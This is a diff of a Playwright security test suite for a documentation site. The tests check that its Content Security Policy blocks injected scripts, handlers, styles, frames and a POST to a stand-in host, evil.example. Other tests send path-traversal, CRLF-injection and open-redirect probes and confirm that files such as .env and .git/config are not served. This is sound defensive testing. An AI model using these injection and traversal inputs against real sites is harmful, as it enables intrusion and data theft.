@@ -15,6 +15,7 @@ import {IMMUTABLE, REVALIDATE} from '../../src/config/headers';
 import {builtRedirects} from '../support/builtSite';
 import {observatory} from '../support/observatory';
 import {expect, foreignRequests, NGINX_FILE, open, ROOT, test, type Servers} from './servers';
+import {chat, CORS, follow, fulfill, modeButton, search} from './site';
 
 type Answer = {readonly status: number; readonly headers: IncomingHttpHeaders; readonly body: string};
 
@@ -42,10 +43,9 @@ test.describe('a page in the browser', () => {
     const light = await fill();
     // A shape without its color variable is black.
     expect(light).not.toBe('rgb(0, 0, 0)');
-    await page.getByRole('button', {name: /Switch between dark and light mode/}).click();
+    await modeButton(page).click();
     await expect.poll(fill).not.toBe(light);
-    await page.getByRole('navigation', {name: 'Main'}).getByRole('link', {name: 'Blog', exact: true}).click();
-    await expect(page).toHaveURL(/\/blog$/);
+    await follow(page, 'Blog', `${servers.plain}/blog`);
     await page.goBack();
     await expect(node).toBeVisible();
     expect(await page.locator('svg style').count()).toBe(0);
@@ -57,17 +57,15 @@ test.describe('a page in the browser', () => {
   }) => {
     const foreign = foreignRequests(page, servers.plain);
     await open(page, `${servers.plain}/docs/getting-started/overview`);
-    await page.keyboard.press('Control+k');
-    const dialog = page.getByRole('dialog', {name: 'Search'});
-    await dialog.getByRole('combobox').fill('webhook agent');
-    await expect(dialog.getByRole('option').first()).toBeVisible();
+    await search.open(page, 'webhook agent');
+    await expect(search.hits(page).first()).toBeVisible();
     await page.keyboard.press('Escape');
-    await page.getByRole('button', {name: 'Ask the docs'}).click();
-    await page.getByRole('textbox', {name: 'Your question'}).fill('How do I call an agent?');
+    await chat.launcher(page).click();
+    await chat.question(page).fill('How do I call an agent?');
     await page.getByRole('button', {name: 'Ask', exact: true}).click();
-    await expect(page.locator('blockquote').first()).toBeVisible();
+    await expect(chat.passages(page).first()).toBeVisible();
     await open(page, `${servers.plain}/search?q=agent`);
-    await expect(page.getByRole('main').locator('h2 a').first()).toBeVisible();
+    await expect(search.results(page).first()).toBeVisible();
     await open(page, `${servers.plain}/release-notes`);
     await page.getByRole('combobox', {name: 'Product area'}).selectOption({label: 'SDKs'});
     expect(foreign).toEqual([]);
@@ -76,99 +74,95 @@ test.describe('a page in the browser', () => {
   test('can call only the documented API', async ({page, servers}) => {
     const spec = JSON.parse(readFileSync(path.join(ROOT, 'api/openapi.json'), 'utf8')) as {servers: {url: string}[]};
     const api = spec.servers[0]?.url ?? '';
-    await page.route(`${api}/**`, (route) =>
-      route.fulfill({headers: {'access-control-allow-origin': '*'}, json: {fine: true}}),
-    );
+    await page.route(`${api}/**`, (route) => route.fulfill({headers: CORS, json: {fine: true}}));
     await open(page, `${servers.plain}/docs/api/aihub/execute-agent-with-code`);
     expect(await page.evaluate(async (url) => (await fetch(`${url}/probe`)).json() as Promise<unknown>, api)).toEqual({
       fine: true,
     });
   });
 
-  test.describe('with injected content', () => {
-    test.use({expectedErrors: [[/Policy violated|Content Security Policy/], {scope: 'test'}]});
-
-    test('blocks injected scripts, handlers, styles, and requests to other hosts', async ({page, servers}) => {
-      // Requests that the policy blocks don't reach this handler.
-      const reached: string[] = [];
-      await page.route('https://evil.example/**', (route) => {
-        reached.push(route.request().url());
-        return route.abort();
-      });
-      await open(page, servers.plain);
-      const outcome = await page.evaluate(async () => {
-        const violations: string[] = [];
-        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
-        const script = document.createElement('script');
-        script.textContent = 'window.scriptRan = true';
-        const external = document.createElement('script');
-        external.src = 'https://evil.example/x.js';
-        const style = document.createElement('style');
-        style.textContent = 'body {color: rgb(1, 2, 3)}';
-        const frame = document.createElement('iframe');
-        frame.src = 'https://evil.example/';
-        const base = document.createElement('base');
-        base.href = 'https://evil.example/';
-        const image = document.createElement('div');
-        image.innerHTML = '<img src="/img/mark.svg" onload="window.handlerRan = true">';
-        const loaded = new Promise((resolve) => image.querySelector('img')?.addEventListener('load', resolve));
-        document.body.append(script, external, style, frame, image);
-        document.head.append(base);
-        await loaded;
-        const failed = await fetch('https://evil.example/collect', {method: 'POST', body: 'x'}).then(
-          () => 'sent',
-          () => 'blocked',
-        );
-        let evaluated = 'ran';
-        try {
-          new Function('return 1')();
-        } catch {
-          evaluated = 'blocked';
-        }
-        // Violations are reported asynchronously, so trigger a last one and wait for it.
-        await new Promise<void>((resolve) => {
-          document.addEventListener('securitypolicyviolation', (event) => {
-            if (event.effectiveDirective === 'form-action') {
-              resolve();
-            }
-          });
-          const form = document.createElement('form');
-          form.action = 'https://evil.example/';
-          form.method = 'post';
-          document.body.append(form);
-          form.submit();
-        });
-        return {
-          failed,
-          evaluated,
-          ran: 'scriptRan' in window || 'handlerRan' in window,
-          color: getComputedStyle(document.body).color,
-          base: document.baseURI,
-          violations: [...new Set(violations)].sort(),
-        };
-      });
-      expect(outcome).toMatchObject({failed: 'blocked', evaluated: 'blocked', ran: false});
-      expect(outcome.color).not.toBe('rgb(1, 2, 3)');
-      expect(outcome.base).toBe(`${servers.plain}/`);
-      expect(outcome.violations).toEqual([
-        'base-uri',
-        'connect-src',
-        'form-action',
-        'frame-src',
-        'script-src',
-        'script-src-attr',
-        'script-src-elem',
-        'style-src-elem',
-      ]);
-      expect(reached).toEqual([]);
+  test('with injected content: blocks injected scripts, handlers, styles, and requests to other hosts', async ({
+    page,
+    servers,
+    expectedErrors,
+  }) => {
+    expectedErrors.push(/Policy violated|Content Security Policy/);
+    // Requests that the policy blocks don't reach this handler.
+    const reached: string[] = [];
+    await page.route('https://evil.example/**', (route) => {
+      reached.push(route.request().url());
+      return route.abort();
     });
+    await open(page, servers.plain);
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+      const script = document.createElement('script');
+      script.textContent = 'window.scriptRan = true';
+      const external = document.createElement('script');
+      external.src = 'https://evil.example/x.js';
+      const style = document.createElement('style');
+      style.textContent = 'body {color: rgb(1, 2, 3)}';
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      const base = document.createElement('base');
+      base.href = 'https://evil.example/';
+      const image = document.createElement('div');
+      image.innerHTML = '<img src="/img/mark.svg" onload="window.handlerRan = true">';
+      const loaded = new Promise((resolve) => image.querySelector('img')?.addEventListener('load', resolve));
+      document.body.append(script, external, style, frame, image);
+      document.head.append(base);
+      await loaded;
+      const failed = await fetch('https://evil.example/collect', {method: 'POST', body: 'x'}).then(
+        () => 'sent',
+        () => 'blocked',
+      );
+      let evaluated = 'ran';
+      try {
+        new Function('return 1')();
+      } catch {
+        evaluated = 'blocked';
+      }
+      // Violations are reported asynchronously, so trigger a last one and wait for it.
+      await new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => {
+          if (event.effectiveDirective === 'form-action') {
+            resolve();
+          }
+        });
+        const form = document.createElement('form');
+        form.action = 'https://evil.example/';
+        form.method = 'post';
+        document.body.append(form);
+        form.submit();
+      });
+      return {
+        failed,
+        evaluated,
+        ran: 'scriptRan' in window || 'handlerRan' in window,
+        color: getComputedStyle(document.body).color,
+        base: document.baseURI,
+        violations: [...new Set(violations)].sort(),
+      };
+    });
+    expect(outcome).toMatchObject({failed: 'blocked', evaluated: 'blocked', ran: false});
+    expect(outcome.color).not.toBe('rgb(1, 2, 3)');
+    expect(outcome.base).toBe(`${servers.plain}/`);
+    expect(outcome.violations).toEqual([
+      'base-uri',
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'script-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-elem',
+    ]);
+    expect(reached).toEqual([]);
   });
 });
 
 test.describe('with every external service configured', () => {
-  const javascript = (body: string) => (route: Route) =>
-    route.fulfill({contentType: 'text/javascript', headers: {'access-control-allow-origin': '*'}, body});
-
   test('search, widget, and analytics work within the policy', async ({page, servers}) => {
     const asked = new Set<string>();
     const answer = (pattern: string | RegExp, handler: (route: Route) => Promise<void>) =>
@@ -177,27 +171,25 @@ test.describe('with every external service configured', () => {
         return handler(route);
       });
     await answer(/^https:\/\/testappid1[^/]*\.(?:algolia|algolianet)\.(?:net|com)\//, (route) =>
-      route.fulfill({headers: {'access-control-allow-origin': '*'}, json: {results: [{hits: [], nbHits: 0}]}}),
+      route.fulfill({headers: CORS, json: {results: [{hits: [], nbHits: 0}]}}),
     );
     // Both mock scripts make the same kinds of requests as the real ones.
     await answer(
       'https://www.googletagmanager.com/**',
-      javascript(`
+      fulfill(`
         navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2');
         new Image().src = 'https://www.google-analytics.com/g/collect?v=2';
         window.tagScriptRan = true;
       `),
     );
     await answer(/^https:\/\/[^/]*\.google-analytics\.com\//, (route) => route.fulfill({status: 204}));
-    await answer('https://hub.serenitystar.ai/resources/chat.css', (route) =>
-      route.fulfill({contentType: 'text/css', body: '.widget {color: teal}'}),
-    );
+    await answer('https://hub.serenitystar.ai/resources/chat.css', fulfill('', '.widget {color: teal}'));
     await answer('https://hub.serenitystar.ai/resources/logo.svg', (route) =>
       route.fulfill({contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>'}),
     );
     await answer(
       'https://hub.serenitystar.ai/resources/chat.js',
-      javascript(`
+      fulfill(`
         window.AIHubChat = class {
           constructor(id, options) {
             this.id = id;
@@ -215,16 +207,13 @@ test.describe('with every external service configured', () => {
         };
       `),
     );
-    await answer('https://api.serenitystar.ai/**', (route) =>
-      route.fulfill({headers: {'access-control-allow-origin': '*'}, json: {}}),
-    );
+    await answer('https://api.serenitystar.ai/**', (route) => route.fulfill({headers: CORS, json: {}}));
 
     await open(page, `${servers.hosted}/docs/getting-started/overview`);
     await expect(page.getByText('The chat of the provider')).toHaveCSS('color', 'rgb(0, 128, 128)');
     await expect.poll(() => page.evaluate(() => 'tagScriptRan' in window)).toBe(true);
-    await page.keyboard.press('Control+k');
-    await page.getByRole('dialog', {name: 'Search'}).getByRole('combobox').fill('activity');
-    await expect(page.getByRole('dialog', {name: 'Search'})).toContainText('No results for');
+    await search.open(page, 'activity');
+    await expect(search.dialog(page)).toContainText('No results for');
     await open(page, `${servers.hosted}/search?q=activity`);
     await expect(page.getByRole('main')).toContainText('No results for');
     await expect
@@ -291,35 +280,27 @@ for (const name of SERVERS) {
     const address = (servers: Servers, baseURL: string | undefined) =>
       name === 'nginx' ? servers.plain : (baseURL ?? '');
 
-    for (const [kind, target, status, type, cache] of KINDS) {
-      test(`${kind}: ${status}, type, cache, security headers`, async ({servers, baseURL}) => {
-        const answer = await ask(address(servers, baseURL), target, {'Accept-Encoding': 'gzip'});
-        expect(answer.status).toBe(status);
-        expect(answer.headers['content-type']).toMatch(type);
-        expect(answer.headers['cache-control']).toBe(cache);
-        expect(answer.headers).toMatchObject(SECURITY_HEADERS);
-        expect(answer.headers['permissions-policy']).toContain('geolocation=()');
-        const policy = answer.headers['content-security-policy'];
-        expect(policy).toContain("default-src 'none'");
-        expect(policy).toContain("frame-ancestors 'none'");
-        if (status === 200) {
-          expect(answer.headers.vary ?? '').toMatch(cache === IMMUTABLE ? /^(?:Accept-Encoding)?$/ : /\bAccept\b(?!-)/);
-        } else {
-          expect(answer.body).toContain('Page Not Found');
-        }
-      });
-    }
-
-    test('compresses text', async ({servers, baseURL}) => {
-      const page = await ask(address(servers, baseURL), '/docs/billing', {'Accept-Encoding': 'gzip'});
-      expect(page.headers['content-encoding']).toBe('gzip');
-    });
-
-    test('returns 304 for an unchanged page', async ({servers, baseURL}) => {
+    test('responds with status, type, cache, security headers, compression, and 304', async ({servers, baseURL}) => {
       const server = address(servers, baseURL);
+      for (const [kind, target, status, type, cache] of KINDS) {
+        const answer = await ask(server, target, {'Accept-Encoding': 'gzip'});
+        expect.soft(answer.status, kind).toBe(status);
+        expect.soft(answer.headers['content-type'], kind).toMatch(type);
+        expect.soft(answer.headers['cache-control'], kind).toBe(cache);
+        expect.soft(answer.headers, kind).toMatchObject(SECURITY_HEADERS);
+        expect.soft(answer.headers['permissions-policy'], kind).toContain('geolocation=()');
+        const policy = answer.headers['content-security-policy'];
+        expect.soft(policy, kind).toContain("default-src 'none'");
+        expect.soft(policy, kind).toContain("frame-ancestors 'none'");
+        const vary = cache === IMMUTABLE ? /^(?:Accept-Encoding)?$/ : /\bAccept\b(?!-)/;
+        if (status === 200) expect.soft(answer.headers.vary ?? '', kind).toMatch(vary);
+        else expect.soft(answer.body, kind).toContain('Page Not Found');
+      }
+      const page = await ask(server, '/docs/billing', {'Accept-Encoding': 'gzip'});
+      expect(page.headers['content-encoding']).toBe('gzip');
+      expect(JSON.stringify(page.headers).length, 'less than 4 KB of headers').toBeLessThan(4096);
       const {headers} = await ask(server, '/docs/billing');
-      const again = await ask(server, '/docs/billing', {'If-None-Match': headers.etag ?? ''});
-      expect(again.status).toBe(304);
+      expect((await ask(server, '/docs/billing', {'If-None-Match': headers.etag ?? ''})).status).toBe(304);
     });
 
     test('answers redirects and trailing slashes with a 301 to a path of the site', async ({servers, baseURL}) => {
@@ -358,34 +339,15 @@ for (const name of SERVERS) {
       servers,
       baseURL,
     }) => {
-      const probes = [
-        '/../package.json',
-        '/docs/../../package.json',
-        '/..',
-        '/docs/..',
-        '/%2e%2e/package.json',
-        '/docs/.%2e/.%2e/package.json',
-        '/..%2f..%2fpackage.json',
-        '/..%2F..%2Fpackage.json',
-        '/..%5c..%5cpackage.json',
-        '/..\\..\\package.json',
-        '/docs%2fbilling',
-        '/assets/..%2f..%2fpackage.json',
-        '/docs/%00',
-        '/docs/billing%00.html',
-        '/docs%0d%0aSet-Cookie:%20a=b/',
-        '//evil.example',
-        '//Docs/Billing',
-        '//evil.example/',
-        '///evil.example/',
-        '/\\evil.example/',
-        '/%5cevil.example/',
-        '/%2fevil.example/',
-        '/%2f%2fevil.example/',
-        '//evil.example/..;/',
-        '/docs//',
-      ];
-      for (const probe of probes) {
+      const probes = String.raw`
+        /../package.json /docs/../../package.json /.. /docs/.. /%2e%2e/package.json
+        /docs/.%2e/.%2e/package.json /..%2f..%2fpackage.json /..%2F..%2Fpackage.json
+        /..%5c..%5cpackage.json /..\..\package.json /docs%2fbilling /assets/..%2f..%2fpackage.json
+        /docs/%00 /docs/billing%00.html /docs%0d%0aSet-Cookie:%20a=b/ //evil.example //Docs/Billing
+        //evil.example/ ///evil.example/ /\evil.example/ /%5cevil.example/ /%2fevil.example/
+        /%2f%2fevil.example/ //evil.example/..;/ /docs//
+      `;
+      for (const probe of probes.trim().split(/\s+/)) {
         const {status, headers, body} = await ask(address(servers, baseURL), probe);
         expect([400, 404], probe).toContain(status);
         expect(headers.location, probe).toBeUndefined();
@@ -396,24 +358,12 @@ for (const name of SERVERS) {
 
     test('serves no source, source map, dot file, or host file', async ({servers, baseURL}) => {
       const script = firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/);
-      const hidden = [
-        '/_headers',
-        '/_redirects',
-        '/staticwebapp.config.json',
-        '/nginx.conf',
-        '/deploy/nginx.conf',
-        '/.env',
-        '/.git/config',
-        '/.gitignore',
-        '/docs/.DS_Store',
-        '/package.json',
-        '/docusaurus.config.ts',
-        '/src/config/env.ts',
-        '/docs/getting-started/overview.mdx',
-        '/blog/authors.yml',
-        `${script}.map`,
-      ];
-      for (const target of hidden) {
+      const hidden = `
+        /_headers /_redirects /staticwebapp.config.json /nginx.conf /deploy/nginx.conf /.env
+        /.git/config /.gitignore /docs/.DS_Store /package.json /docusaurus.config.ts /src/config/env.ts
+        /docs/getting-started/overview.mdx /blog/authors.yml ${script}.map
+      `;
+      for (const target of hidden.trim().split(/\s+/)) {
         expect((await ask(address(servers, baseURL), target)).status, target).toBe(404);
       }
     });
@@ -428,11 +378,6 @@ for (const name of SERVERS) {
       expect(observatory({...flat, 'content-security-policy': undefined}, body, 'https://docs.example.com').grade).toBe(
         'C',
       );
-    });
-
-    test('sends less than 4 KB of headers for a page', async ({servers, baseURL}) => {
-      const {headers} = await ask(address(servers, baseURL), '/');
-      expect(JSON.stringify(headers).length).toBeLessThan(4096);
     });
   });
 }
